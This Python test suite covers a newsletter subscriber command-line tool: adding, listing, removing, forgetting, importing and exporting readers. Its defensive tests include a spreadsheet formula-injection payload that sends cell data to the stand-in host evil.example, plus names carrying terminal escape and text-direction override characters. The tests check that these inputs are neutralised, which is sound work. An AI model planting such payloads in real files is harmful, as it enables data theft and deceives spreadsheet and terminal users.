import csv
import io
import json
import re
import shutil

import pytest
import sqlalchemy as sa

from newsletter.store import open_engine, readers, utcnow
from newsletter.subscribers import Consent, ConsentMethod, Status, Subscribers, new_reader_row, spreadsheet_safe

from .conftest import PG_URL, ROOT
from .test_imports import DATA
from .test_subscribers import KEY


@pytest.fixture
def cli(run, monkeypatch, db_url):
    """The CLI on a list that exists and is empty."""
    open_engine(db_url).dispose()
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", db_url)
    monkeypatch.setenv("NEWSLETTER_SECRET_KEY", KEY)  # `run` cleared it; no key file in the repository
    return run


def test_add_show_list_count(cli):
    result = cli("subscribers", "add", "Ana@Example.COM", "--name", "Ana", "--categories", "ai-tech,essays")
    assert result.code == 0, result.err
    assert result.out.strip() == "added ana@example.com (active; ai-tech, essays)"
    cli("subscribers", "add", "bo@example.com")
    shown = cli("subscribers", "show", "ANA@example.com").out
    assert "status:          active" in shown and "consent_method:  cli" in shown
    assert "token" not in shown
    assert "token:" in cli("subscribers", "show", "ana@example.com", "--token").out

    table = cli("subscribers", "list").out.splitlines()
    assert table[0].split() == ["EMAIL", "NAME", "STATUS", "CATEGORIES"]
    assert [line.split()[0] for line in table[1:]] == ["ana@example.com", "bo@example.com"]
    rows = list(csv.DictReader(io.StringIO(cli("subscribers", "list", "--format", "csv").out)))
    assert [r["email"] for r in rows] == ["ana@example.com", "bo@example.com"]
    assert rows[0]["categories"] == "ai-tech,essays"
    data = json.loads(cli("subscribers", "list", "--format", "json", "--category", "essays").out)
    assert [r["email"] for r in data] == ["ana@example.com"]

    counted = cli("subscribers", "count").out
    assert "active" in counted and "AI Tech (ai-tech)" in counted
    assert [line.split()[-1] for line in counted.splitlines() if line.strip().startswith("total")] == ["2"]


def test_rotate_token(cli):
    cli("subscribers", "add", "ana@example.com")
    before = cli("subscribers", "show", "ana@example.com", "--token").out
    assert cli("subscribers", "rotate-token", "ana@example.com").out.strip() == "new token for ana@example.com"
    after = cli("subscribers", "show", "ana@example.com", "--token").out
    token = [line.split()[1] for line in after.splitlines() if line.startswith("token:")][0]
    assert token not in before and len(token) >= 32


def test_count_shows_active_readers_with_no_categories(cli):
    cli("subscribers", "add", "ana@example.com", "--categories", "ai-tech")
    for email in ("bo@example.com", "cy@example.com", "di@example.com"):
        cli("subscribers", "add", email)
    cli("subscribers", "remove", "di@example.com")  # no categories, but not active: not counted
    counted = cli("subscribers", "count").out
    rows = {line.rsplit(None, 1)[0].strip(): line.split()[-1] for line in counted.splitlines() if line.strip()}
    assert rows["no categories (every story)"] == "2" and rows["AI Tech (ai-tech)"] == "1"


def test_removing_a_reader_who_already_left_says_so(cli, db_url, session_settings):
    """Exit status 0: whatever the reason they left, they get no email, which is what was asked."""
    cli("subscribers", "add", "ana@example.com")
    assert cli("subscribers", "remove", "ana@example.com").out == "unsubscribed ana@example.com\n"
    again = cli("subscribers", "remove", "Ana@example.com")
    assert again.code == 0, again.err
    assert re.fullmatch(r"ana@example\.com had already left \(unsubscribed since \d{4}-\d\d-\d\d\): "
                        r"nothing changed\n", again.out)
    subs = Subscribers.open(db_url, session_settings.categories)
    subs.add("bo@example.com", consent=Consent(ConsentMethod.CLI))
    subs.change_status("bo@example.com", Status.BOUNCED, reason="hard bounce")
    subs.close()
    bounced = cli("subscribers", "remove", "bo@example.com")
    assert bounced.code == 0 and "bo@example.com had already left (bounced since" in bounced.out, bounced.err
    assert "status:          bounced" in cli("subscribers", "show", "bo@example.com").out, "left as it was"
    cli("subscribers", "forget", "ana@example.com", "--yes")
    forgotten = cli("subscribers", "remove", "ana@example.com")
    assert (forgotten.code, forgotten.out) == (0, "ana@example.com was forgotten at the reader's request: "
                                                  "nothing to remove\n")
    unknown = cli("subscribers", "remove", "nobody@example.com")
    assert (unknown.code, unknown.err) == (1, "error: no reader with address nobody@example.com\n")


def test_remove_set_categories_forget(cli):
    cli("subscribers", "add", "ana@example.com")
    assert cli("subscribers", "set-categories", "ana@example.com", "ai-news").out.strip() == \
        "ana@example.com: ai-news"
    assert cli("subscribers", "remove", "ana@example.com").out.strip() == "unsubscribed ana@example.com"
    assert "status:          unsubscribed" in cli("subscribers", "show", "ana@example.com").out
    assert cli("subscribers", "list", "--status", "active").out.splitlines()[1:] == []
    result = cli("subscribers", "forget", "ana@example.com", "--yes")
    assert result.out.strip() == "forgot ana@example.com"
    result = cli("subscribers", "add", "ana@example.com")
    assert result.code == 1
    assert result.err.strip() == ("error: ana@example.com was forgotten at the reader's request and "
                                  "cannot be added again")


@pytest.mark.parametrize("args, message", [
    (["subscribers", "add", "not-an-email"], "error: invalid email address 'not-an-email'"),
    (["subscribers", "add", "a@example.com", "--categories", "sports"], "error: unknown category 'sports'"),
    (["subscribers", "show", "nobody@example.com"], "error: no reader with address nobody@example.com"),
    (["subscribers", "import", "missing.csv"], "error: missing.csv: cannot read"),
    (["subscribers", "import", str(DATA / "generic.csv"), "--map-tag", "oops"], "error: Invalid value for "
     "'--map-tag': 'oops' is not TAG=slug"),
    (["subscribers", "list", "--category", "sports"], "error: unknown category 'sports'"),
])
def test_errors_are_one_line(cli, args, message):
    result = cli(*args)
    assert result.code != 0
    assert result.err.startswith(message), result.err
    assert len(result.err.strip().splitlines()) == 1


def test_import_export_round_trip(cli, tmp_path):
    result = cli("subscribers", "import", DATA / "mailchimp_subscribed.csv", "--map-tag", "Book Club=essays")
    assert result.code == 0, result.err
    assert "added 8 (8 active), updated 0, unchanged 0, skipped 1, invalid 2" in result.out
    assert "invalid: line 6: invalid email address 'not-an-email'" in result.out
    dry = cli("subscribers", "import", DATA / "mailchimp_subscribed.csv", "--dry-run")
    assert "would add 0" in dry.out and "dry run: nothing was changed" in dry.out
    out = tmp_path / "readers.csv"
    assert cli("subscribers", "export", out).out.strip() == f"exported 8 readers to {out}"
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == 8 and {r["consent_method"] for r in rows} == {"import"}


def test_db_upgrade(cli):
    result = cli("db", "upgrade")
    assert result.code == 0 and "database at revision" in result.out


def test_every_subcommand_has_help(cli):
    from newsletter.cli import cli as group

    for name in ("subscribers", "db"):
        sub = group.commands[name]
        assert sub.help
        for command_name, command in sub.commands.items():
            assert command.help and len(command.help) > 20, command_name
            assert cli(name, command_name, "--help").code == 0


def test_database_errors_are_one_line(run, monkeypatch, tmp_path):
    db = tmp_path / "ro.db"
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", f"sqlite:///{db}")
    assert run("subscribers", "add", "a@example.com").code == 0
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", f"sqlite:///file:{db}?mode=ro&uri=true")
    result = run("subscribers", "add", "b@example.com")
    assert result.code == 1
    assert result.err.strip() == "error: database: attempt to write a readonly database"
    (tmp_path / "junk.db").write_text("this is not a database")
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", f"sqlite:///{tmp_path / 'junk.db'}")
    result = run("subscribers", "count")
    assert result.code == 1 and len(result.err.strip().splitlines()) == 1
    assert result.err.startswith("error: ") and "Traceback" not in result.err


def test_a_database_failing_under_a_command_is_one_line(cli, db_url):
    assert cli("subscribers", "add", "a@example.com").code == 0
    engine = sa.create_engine(db_url)
    with engine.begin() as conn:
        conn.execute(sa.text("DROP TABLE reader_categories"))
    engine.dispose()
    result = cli("subscribers", "count")
    assert result.code == 1
    assert result.err in ("error: database: no such table: reader_categories\n",
                          'error: database: relation "reader_categories" does not exist\n')
    debug = cli("--debug", "subscribers", "count")  # the driver's own error, for a bug report
    assert "The above exception was the direct cause" in debug.err
    assert re.search(r"^(sqlite3\.OperationalError|psycopg\.errors\.UndefinedTable): ", debug.err, re.M)


def test_a_postgresql_database_that_does_not_exist_is_one_line(run, monkeypatch):
    url = PG_URL.rpartition("/")[0] + "/no_such_database"
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", url)
    result = run("subscribers", "count")
    assert result.code == 1 and len(result.err.splitlines()) == 1 and "Traceback" not in result.err
    assert result.err.startswith(f"error: cannot open database {url}: connection failed: ")
    assert 'database "no_such_database" does not exist' in result.err


def test_unwritable_output_is_one_line(run, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("")
    result = run("preview", "digests/2026-04-22-open-models-weekly.md", "--out", blocker / "x.html")
    assert result.code == 1 and len(result.err.strip().splitlines()) == 1
    assert result.err.startswith(f"error: {blocker}")


def test_dry_run_import_creates_no_database(run, monkeypatch, tmp_path):
    db = tmp_path / "new.db"
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", f"sqlite:///{db}")
    result = run("subscribers", "import", DATA / "generic.csv", "--dry-run")
    assert result.code == 0 and "would add 8" in result.out
    assert not db.exists()


# -- CSV a spreadsheet opens ------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Click for your prize")'


@pytest.mark.parametrize("value, safe", [
    (HOSTILE, "'" + HOSTILE), ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("Ana", "Ana"), ("", ""), ("a=b", "a=b"), ("2024-01-02", "2024-01-02"),
])
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cli, tmp_path):
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["email", "name"], ["=cmd@example.com", HOSTILE], ["ana@example.com", "+1 555"],
                                 ["bo@example.com", "-Bo"], ["cy@example.com", "@Cy"], ["di@example.com", "Di"]])
    assert cli("subscribers", "import", path).code == 0
    stored = {"=cmd@example.com": HOSTILE, "ana@example.com": "+1 555", "bo@example.com": "-Bo",
              "cy@example.com": "@Cy", "di@example.com": "Di"}
    neutral = {("'" + e if e.startswith("=") else e): (n if n == "Di" else "'" + n) for e, n in stored.items()}

    def names(text):
        return {r["email"]: r["name"] for r in csv.DictReader(io.StringIO(text))}
    out = tmp_path / "readers.csv"
    assert cli("subscribers", "export", out).code == 0
    assert names(out.read_text(encoding="utf-8")) == neutral
    assert names(cli("subscribers", "list", "--format", "csv").out) == neutral
    assert cli("subscribers", "export", out, "--raw").code == 0
    assert names(out.read_text(encoding="utf-8")) == stored
    assert names(cli("subscribers", "list", "--format", "csv", "--raw").out) == stored
    listed = json.loads(cli("subscribers", "list", "--format", "json").out)  # JSON is not for spreadsheets
    assert {r["email"]: r["name"] for r in listed} == stored


# -- what a terminal shows ------------------------------------------------------------------------

def test_list_and_show_escape_control_and_direction_characters(cli, db_url, session_settings):
    """A name written by an older version or by hand is shown escaped, never run by the terminal."""
    subs = Subscribers.open(db_url, session_settings.categories)
    row = new_reader_row("ok@example.com", name=None, status=Status.ACTIVE, consent=Consent(ConsentMethod.CLI),
                         now=utcnow())
    with subs.engine.begin() as conn:
        conn.execute(sa.insert(readers).values({**row, "name": "Eve\u202eexe.txt\x1b[2J\x07\u2066"}))
        conn.execute(sa.insert(readers).values({**row, "email": "x\u202e@example.com", "name": "X",
                                                "token": row["token"] + "2"}))
    subs.close()
    listed = cli("subscribers", "list").out
    shown = cli("subscribers", "show", "ok@example.com").out
    as_json = cli("subscribers", "list", "--format", "json").out
    for out in (listed, shown, as_json):
        assert "\u202e" not in out and "\x1b" not in out and "\x07" not in out and "\u2066" not in out
    assert "Eve\\u202eexe.txt\\u001b[2J\\u0007\\u2066"[:24] in listed
    assert "x\\u202e@example.com" in listed
    assert "name:            Eve\\u202eexe.txt\\u001b[2J\\u0007\\u2066" in shown
    assert {r["email"]: r["name"] for r in json.loads(as_json)} == {  # still the same data
        "ok@example.com": "Eve\u202eexe.txt\x1b[2J\x07\u2066", "x\u202e@example.com": "X"}


def test_forget_makes_the_key_file_beside_the_settings(run, monkeypatch, tmp_path):
    shutil.copy(ROOT / "newsletter.toml", tmp_path / "newsletter.toml")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NEWSLETTER_DATABASE_URL", f"sqlite:///{tmp_path / 'subscribers.db'}")
    monkeypatch.delenv("NEWSLETTER_SECRET_KEY")  # `run` sets one for every other test
    assert run("subscribers", "add", "ana@example.com").code == 0
    assert not (tmp_path / "newsletter.key").exists()
    assert run("subscribers", "forget", "ana@example.com", "--yes").code == 0
    assert len((tmp_path / "newsletter.key").read_bytes()) == 32
    result = run("subscribers", "add", "ana@example.com")
    assert result.code == 1 and "was forgotten" in result.err
